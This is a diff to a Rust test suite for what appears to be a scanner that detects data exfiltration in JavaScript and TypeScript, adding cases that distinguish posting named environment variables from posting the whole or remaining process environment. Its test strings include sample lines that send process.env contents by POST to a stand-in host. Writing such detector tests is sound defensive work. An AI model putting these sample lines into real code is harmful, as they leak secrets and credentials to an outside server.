@@ -84,6 +84,13 @@ fn javascript_values_followed_through_modules_templates_and_callbacks() {
     let typescript = "const env: Record<string, string | undefined> = { ...process.env };\n\
                       await fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(env) as string });\n";
     assert!(ids("x.ts", typescript).contains(&"exfiltration"));
+    // Named variables taken out of the environment are those variables; its rest is the rest.
+    let named = "const { API_URL, MODE } = process.env;\n\
+                 await fetch(API_URL, { method: 'POST', body: JSON.stringify({ mode: MODE }) });\n";
+    assert!(!ids("x.js", named).contains(&"exfiltration"), "{:?}", ids("x.js", named));
+    let rest = "const { MODE, ...others } = process.env;\n\
+                await fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(others) });\n";
+    assert!(ids("x.js", rest).contains(&"exfiltration"), "{:?}", ids("x.js", rest));
 }
 
 #[test]
